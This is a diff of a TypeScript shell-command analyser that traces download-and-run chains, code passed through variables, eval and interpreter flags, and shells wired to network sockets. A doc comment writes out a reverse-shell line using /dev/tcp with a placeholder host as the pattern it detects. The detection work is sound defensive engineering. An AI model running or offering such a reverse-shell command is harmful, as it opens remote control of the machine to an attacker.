@@ -48,6 +48,13 @@ export class Origins {
   #files: Fetched[] = [];
   /** The current folder, if it is not known where it is. */
   #unknown = UNKNOWN_FOLDER;
+  #last: ShellCommand | undefined;
+  readonly #valuesIn: (word: string) => string;
+
+  /** @param valuesIn what the line assigns to the variables of a word, as written */
+  constructor(valuesIn: (word: string) => string = () => "") {
+    this.#valuesIn = valuesIn;
+  }
 
   /** A command with `from` among its `run` effects; what it fetches counts for those behind it. */
   follow(command: ShellCommand): ShellCommand {
@@ -55,14 +62,18 @@ export class Origins {
     if (program === "cd" && command.cwd === undefined)
       this.#unknown = resolvePath(this.#unknown, argv[1] ?? "");
     const socket = this.#socket(command);
-    const input = this.#inputOf([...from, ...via.filter((name) => FEEDERS.has(name))]);
+    const { stdin } = command;
+    const input =
+      this.#inputOf([...from, ...via.filter((name) => FEEDERS.has(name))]) ??
+      (stdin?.known === false ? this.#printedIn(stdin.text) : undefined);
     const address = FETCHES.has(program) ? addressOf(command) : undefined;
     const isPlain = this.#files.length === 0 && this.#printed.size === 0;
     const isKnown = effects.some((effect) => effect.kind === "run" && effect.from !== undefined);
     const runs = isKnown
       ? undefined
       : (atAddress(command) ?? socket ?? (isPlain ? undefined : this.#runs(command, input)));
-    this.#note(command, address, input);
+    this.#note(command, address, input ?? (isPlain ? undefined : this.#carried(command)));
+    this.#last = command;
     if (runs === undefined) return command;
     return { ...command, effects: [...effects, runs] };
   }
@@ -76,9 +87,27 @@ export class Origins {
     return undefined;
   }
 
+  /** The address of what is in variables among the words of a command that prints them. */
+  #carried({ program, argv, unknown }: ShellCommand): string | undefined {
+    if (program !== "echo" && program !== "printf") return undefined;
+    return this.#printedIn(unknown.map((at) => argv[at] ?? "").join(" "));
+  }
+
+  /** The address of what a substitution in a word gives, or in what the line assigns to its variables. */
+  #printedIn(word: string): string | undefined {
+    for (const text of [word, this.#valuesIn(word)]) {
+      const address = this.#printed.get(SUBSTITUTED.exec(text)?.[1] ?? "");
+      if (address !== undefined) return address;
+    }
+    return undefined;
+  }
+
   /** A shell whose commands come from a connection: `bash -i >& /dev/tcp/HOST/PORT 0>&1`. */
   #socket(command: ShellCommand): Effect | undefined {
-    const socket = command.redirects.find(({ target }) => SOCKET.test(target));
+    // What a program starts has its connections: `nohup bash …`.
+    const isStarted = command.via.length > 0 && command.via.at(-1) === this.#last?.program;
+    const redirects = [...command.redirects, ...(isStarted ? (this.#last?.redirects ?? []) : [])];
+    const socket = redirects.find(({ target }) => SOCKET.test(target));
     return socket &&
       (isShell(command.program) || RUNS_INPUT.has(command.program)) &&
       readsInput(command)
@@ -91,14 +120,14 @@ export class Origins {
     const run = { kind: "run", sure: true, program } as const;
     if (input !== undefined && opaque) return { ...run, from: input };
     const name = program.toLowerCase();
-    if (isInterpreter(name)) {
-      if (input !== undefined && readsInput(command)) return { ...run, from: input };
-      for (const [at, word] of argv.entries()) {
-        const isCode = /^-[a-zA-Z]*[ceEpr]$/.test(argv[at - 1] ?? "") && unknown.includes(at);
-        if (!isCode && !word.startsWith("<(")) continue;
-        const address = this.#printed.get(SUBSTITUTED.exec(word)?.[1] ?? "");
-        if (address !== undefined) return { ...run, from: address };
-      }
+    const isOfCode = isInterpreter(name);
+    if (isOfCode && input !== undefined && readsInput(command)) return { ...run, from: input };
+    for (const [at, word] of isOfCode || isShell(name) || name === "eval" ? argv.entries() : []) {
+      const isGiven = name === "eval" || /^-[a-zA-Z]*[ceEpr]$/.test(argv[at - 1] ?? "");
+      // A shell with `<(…)` is read with what is in it.
+      if (!(isGiven && unknown.includes(at)) && !(isOfCode && word.startsWith("<("))) continue;
+      const address = this.#printedIn(word);
+      if (address !== undefined) return { ...run, from: address };
     }
     if (this.#files.length === 0) return undefined;
     const cwd = this.#folderOf(command);
